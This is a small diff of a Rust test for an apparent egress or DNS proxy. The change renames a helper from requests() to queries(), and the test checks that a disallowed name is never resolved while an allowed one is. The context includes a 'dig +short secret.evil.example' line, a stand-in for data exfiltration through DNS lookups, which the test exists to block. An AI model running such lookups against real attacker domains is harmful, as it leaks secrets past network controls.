@@ -39,11 +39,11 @@ fn a_name_is_judged_before_anybody_resolves_it() {
     }
     // Looking it up tells nobody anything either.
     agent.stdout_of("dig +short secret.evil.example");
-    assert_eq!(upstream.requests(), []);
+    assert_eq!(upstream.queries(), []);
     // What may be reached is looked up.
     let got = agent.curl(&format!("{proxy} http://api.example:{port}/open"));
     assert_eq!(got.body, "hello", "{got:?}");
-    let asked = upstream.requests();
+    let asked = upstream.queries();
     assert!(!asked.is_empty());
     assert!(
         asked.iter().all(|asked| asked.name == "api.example"),
